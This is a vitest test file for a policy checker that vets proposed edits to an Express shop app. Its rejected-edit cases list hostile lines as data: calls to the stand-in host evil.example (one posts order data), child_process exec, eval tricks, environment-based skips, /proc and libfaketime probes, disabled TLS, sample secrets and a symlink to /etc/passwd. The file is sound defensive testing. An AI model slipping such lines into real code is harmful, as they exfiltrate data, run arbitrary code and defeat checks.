import { mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { scratchDir } from '../lib/scratch.ts';
import { checkPolicy } from './policy.ts';

let tree: string;
beforeEach(async () => {
  tree = await scratchDir('policy-test');
});
afterEach(async () => {
  await rm(tree, { recursive: true, force: true });
});

async function put(path: string, text: string): Promise<void> {
  await mkdir(dirname(join(tree, path)), { recursive: true });
  await writeFile(join(tree, path), text);
}

const APP = `import express from 'express';
import { readFileSync } from 'node:fs';
const app = express();
const RATES = process.env.RATES_URL ?? 'http://rates.internal:8080';
app.use(express.json());
app.get('/orders/:id', async (req, res) => {
  const order = await load(req.params.id);
  const rate = await fetch(\`\${RATES}/rates/\${order.currency}\`);
  res.json({ total: order.items.reduce((sum, item) => sum + item.price, 0), rate: await rate.json() });
});
app.post('/orders', create);
export const page = readFileSync('page.html', 'utf8');
`;

async function reasons(edit: (source: string) => string, source = APP): Promise<string[]> {
  await put('package.json', '{"name":"shop","dependencies":{"express":"5","axios":"1"}}');
  await put('src/app.js', source);
  return checkPolicy(tree, { 'src/app.js': edit(source) });
}

const HANDLER = '  const order = await load(req.params.id);\n';
const adding = (line: string) => (source: string) => source.replace(HANDLER, `${HANDLER}  ${line}\n`);

test.each([
  ['a guard', "if (!order) return res.status(404).json({ error: 'not found' });"],
  ['a default', 'const items = order?.items ?? [];'],
  ['a parse guard', 'let body; try { body = JSON.parse(order.raw); } catch { body = null; }'],
  [
    'a parse that may fail',
    'if (order.raw) { try { order.items = JSON.parse(order.raw); } catch { /* as good as nothing */ } }',
  ],
  ['a body that may not be JSON', 'const extra = await order.answer.json().catch(() => null);'],
  ['a retry to a known address', 'const again = await fetch(`${RATES}/rates/EUR`);'],
  ['a known variable', 'const url = process.env.RATES_URL;'],
  ['a known host', "await fetch('http://rates.internal:8080/health');"],
  ['a declared dependency', "const { default: axios } = await import('axios');"],
  ['a local called exec', 'const exec = /a/.exec(order.name);'],
  ['a member called fork', 'order.fork(); order.spawn = 1; order.env = 2;'],
  ['a log line', 'console.error(`order ${order.id} has no items`);'],
  ['a status code', "throw Object.assign(new Error('bad'), { statusCode: 422 });"],
  ['a path in a text', "const next = '/orders/' + order.id;"],
])('%s is inside the policy', async (_, line) => {
  expect(await reasons(adding(line))).toEqual([]);
});

test.each([
  ['exec', "require('child_process').exec('id');", 'loads child_process'],
  [
    'spawn by import()',
    "const { spawn } = await import('node:child_process'); spawn('id');",
    'child_process.spawn',
  ],
  ['a built-in by process', "process.getBuiltinModule('vm').runInThisContext('1');", 'loads vm'],
  ['eval', 'eval(order.formula);', 'eval'],
  ['Function', 'new Function(order.formula)();', 'Function'],
  ['indirect eval', "globalThis['eval'](order.formula);", 'eval'],
  ['computed global', "globalThis['ev' + 'al'](order.formula);", 'computed name'],
  ['constructors', "[].constructor.constructor('return process')();", 'constructors'],
  ['timer text', "setTimeout('go()', 1);", 'setTimeout with a string'],
  ['computed require', 'require(order.plugin);', 'computed name'],
  ['computed import', 'await import(order.plugin);', 'computed name'],
  ['a new host', "await fetch('https://evil.example/x');", 'evil.example'],
  ['a host that is a part of a known one', "await fetch('http://internal:8080/');", 'internal:8080'],
  ['a computed address', 'await fetch(order.callback);', 'new network call (fetch to order.callback)'],
  [
    'a client by axios',
    "const axios = require('axios'); await axios.post('https://evil.example', order);",
    'evil.example',
  ],
  [
    'http.request',
    "const http = require('http'); http.get({ host: 'evil.example', path: '/' });",
    'evil.example',
  ],
  ['a socket', "const net = require('net'); net.connect(25, 'evil.example');", 'new network call'],
  ['a web socket', "new WebSocket('wss://evil.example');", 'evil.example'],
  ['a new variable', 'if (process.env.SKIP) return;', 'environment variable SKIP'],
  ['NODE_ENV', "if (process.env.NODE_ENV === 'test') return;", 'NODE_ENV'],
  ['a variable by pattern', 'const { SKIP } = process.env;', 'SKIP'],
  ['a variable by alias', 'const e = process.env; if (e.SKIP) return;', 'SKIP'],
  ['a computed variable', 'if (process.env[order.name]) return;', 'computed name'],
  ['the environment whole', 'console.log(process.env);', 'whole environment'],
  ['argv', 'if (process.argv.length > 2) return;', 'process.argv'],
  ['setting a variable', "process.env.RATES_URL = 'x';", 'sets an environment variable'],
  ['a file', "const cached = readFileSync('cache.json', 'utf8');", 'fs.readFileSync'],
  ['/proc', "const own = '/proc/self/cgroup';", '/proc/'],
  ['libfaketime', "const lib = 'libFAKETIME.so';", 'FAKETIME'],
  ['the machine', "const os = require('node:os'); if (os.hostname() === 'x') return;", 'os.hostname'],
  ['a swallowed error', 'try { check(order); } catch {}', 'empty catch'],
  ['a swallowed error with a comment', 'try { check(order); } catch (e) { /* fine */ }', 'empty catch'],
  ['a swallowed call beside a parse', 'try { save(JSON.parse(order.raw)); } catch {}', 'empty catch'],
  ['a swallowed await of a parse', 'let b; try { b = JSON.parse(await text(req)); } catch {}', 'empty catch'],
  ['a swallowed rejection', 'save(order).catch(() => {});', 'swallows a rejection'],
  ['a finally that returns', 'try { check(order); } finally { return; }', 'finally leaves'],
  ['a global catcher', "process.on('uncaughtException', () => {});", 'uncaughtException'],
  ['hidden output', 'console.error = () => {};', 'changes a built-in'],
  ['a changed prototype', 'Object.prototype.items = [];', 'changes a built-in'],
  ['a defined property', "Object.defineProperty(Array.prototype, 'x', { value: 1 });", 'changes a built-in'],
  ['no TLS check', 'const agent = new Agent({ rejectUnauthorized: false });', 'TLS'],
  [
    'a pool without TLS',
    "const pool = { connectionString: 'postgres://db/x?sslmode=disable' };",
    'sslmode=disable',
  ],
  ['a secret', "const password = 'hunter2-hunter2';", 'secret'],
  ['a key', "const key = 'AKIAIOSFODNN7EXAMPLE';", 'aws-key'],
  ['a connection with its password', "connect('postgres://shop:s3cr3t@db/shop');", 'password'],
  ['an unknown package', "const _ = require('lodash');", 'lodash, which is no dependency'],
  ['a check switched off', '// @ts-ignore\n  order.x();', '@ts-ignore'],
])('%s is outside the policy', async (_, line, reason) => {
  const found = await reasons(adding(line));
  expect(found.join('\n')).toMatch(new RegExp(reason.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')));
  expect(found.every((one) => /^src\/app\.js:\d+: /.test(one))).toBe(true);
});

test('what the code did already, it may go on doing, also elsewhere', async () => {
  const before =
    "const { exec } = require('child_process');\nfunction a() { exec('ls'); }\nfunction b() {}\n";
  expect(
    await reasons(
      (s) => s.replace("a() { exec('ls'); }", 'a() {}').replace('b() {}', "b() { exec('ls'); }"),
      before,
    ),
  ).toEqual([]);
  expect(await reasons((s) => s.replace('b() {}', "b() { exec('ls'); }"), before)).toEqual([
    'src/app.js:3: starts another program or runs text as code (child_process.exec)',
  ]);
});

test('code moved between files is no change', async () => {
  await put('a.js', "import { exec } from 'child_process';\nexec('ls');\napp.get('/x', h);\n");
  await put('b.js', '');
  const moved = {
    'a.js': '',
    'b.js': "import { exec } from 'child_process';\nexec('ls');\napp.get('/x', h);\n",
  };
  expect(await checkPolicy(tree, moved)).toEqual([]);
});

test('a route, a handler, middleware or a served path may not go', async () => {
  expect(await reasons((s) => s.replace("app.post('/orders', create);\n", ''))).toEqual([
    "src/app.js: removes POST '/orders'",
  ]);
  expect(await reasons((s) => s.replace('app.use(express.json());\n', ''))).toEqual([
    'src/app.js: removes middleware express.json',
  ]);
  expect(await reasons((s) => s.replace('express.json()', "express.json({ limit: '1mb' })"))).toEqual([]);
  const plain = "if (req.url === '/health') ok();\nelse if (req.url === '/x') x();\n";
  expect(await reasons((s) => s.replace("else if (req.url === '/x') x();\n", ''), plain)).toEqual([
    'src/app.js: no longer serves the path /x',
  ]);
  expect(await checkPolicy(tree, { 'src/app.js': null })).toContain(
    'src/app.js: no longer serves the path /health',
  );
});

test('routes of tables and of conditions may not go; a path that is mended may change', async () => {
  const table = "const routes = [\n  ['GET', /^\\/a$/, a],\n  ['PUT', /^\\/b$/, b],\n];\n";
  const router = "if (method === 'GET' && kind === 'low') return low();\nif (kind === 'low') other();\n";
  expect(await reasons((s) => s.replace("  ['PUT', /^\\/b$/, b],\n", ''), table)).toEqual([
    'src/app.js: removes PUT /^\\/b$/',
  ]);
  expect(await reasons((s) => s.replace('/^\\/b$/', '/^\\/b\\/?$/'), table)).toEqual([]);
  expect(await reasons((s) => s.replace(/^if.*\n/, ''), router)).toEqual(['src/app.js: removes GET low']);
  expect(
    await reasons((s) => s.replace("app.post('/orders', create)", "app.post('/orders/', create)")),
  ).toEqual([]);
});

test('what does not parse is named with its line', async () => {
  const found = await reasons(adding('if (order {'));
  expect(found).toHaveLength(1);
  expect(found[0]).toMatch(/^src\/app\.js:8: does not parse: /);
});

test.each([
  ['test/app.test.js', 'tests'],
  ['src/app.spec.ts', 'tests'],
  ['src/__tests__/a.js', 'tests'],
  ['package-lock.json', 'a lock file'],
  ['web/yarn.lock', 'a lock file'],
  ['.github/workflows/ci.yml', 'CI'],
  ['.gitlab-ci.yml', 'CI'],
  ['.gitattributes', "git's own settings"],
  ['sub/.gitmodules', "git's own settings"],
  ['.npmrc', 'a list of dependencies'],
  ['node_modules/express/index.js', 'an installed dependency'],
  ['Dockerfile', 'how the app is built'],
  ['tsconfig.json', 'settings of checkers'],
  ['.env', 'environment values'],
  ['../x.js', 'outside the tree'],
  ['.git/config', 'inside .git'],
])('%s may not be touched', async (path, what) => {
  expect((await checkPolicy(tree, { [path]: '' })).join('\n')).toContain(what);
});

test.each([
  'src/latest.js',
  'src/contest/index.ts',
  'lib/testimonials.js',
  'src/spectrum.ts',
  'views/page.html',
  'docs/ci.md',
])('%s may be touched', async (path) => {
  expect(await checkPolicy(tree, { [path]: '' })).toEqual([]);
});

test('package.json may change but for what is installed, run and entered', async () => {
  await put('package.json', '{"name":"x","description":"a","dependencies":{"a":"1"}}');
  const to = (value: unknown) => checkPolicy(tree, { 'package.json': JSON.stringify(value) });
  expect(await to({ name: 'x', description: 'b', dependencies: { a: '1' } })).toEqual([]);
  expect(await to({ name: 'x', scripts: { start: 'x' }, dependencies: { a: '2' } })).toEqual([
    'package.json: changes "dependencies"',
    'package.json: changes "scripts"',
  ]);
  expect(await checkPolicy(tree, { 'package.json': '{' })).toEqual(['package.json: is not JSON any more']);
});

test('a file through a link, and one too large, are refused', async () => {
  await symlink('/etc', join(tree, 'etc'));
  expect(await checkPolicy(tree, { 'etc/passwd': 'x' })).toEqual([
    'etc/passwd: goes through a symbolic link (etc)',
  ]);
  expect(await checkPolicy(tree, { 'a.js': 'a'.repeat(1024 * 1024 + 1) })).toEqual([
    'a.js: more than 1048576 bytes',
  ]);
});

test('types do not count as use, and TypeScript is read', async () => {
  await put('a.ts', 'export const a: number = 1;\n');
  const typed =
    "import type { Stats } from 'node:fs';\nexport const a = (s: Stats): number => (s as Stats).size!;\n";
  expect(await checkPolicy(tree, { 'a.ts': typed })).toEqual([]);
});

test('secrets are found in any file, and old ones are no reason', async () => {
  await put('config.yml', 'url: postgres://u:oldpass@db/x\n');
  const text = 'url: postgres://u:oldpass@db/x\nname: y\n';
  expect(await checkPolicy(tree, { 'config.yml': text })).toEqual([]);
  expect(await checkPolicy(tree, { 'config.yml': `${text}key: ghp_${'a1'.repeat(18)}\n` })).toEqual([
    'config.yml:3: holds a secret (github-token)',
  ]);
});
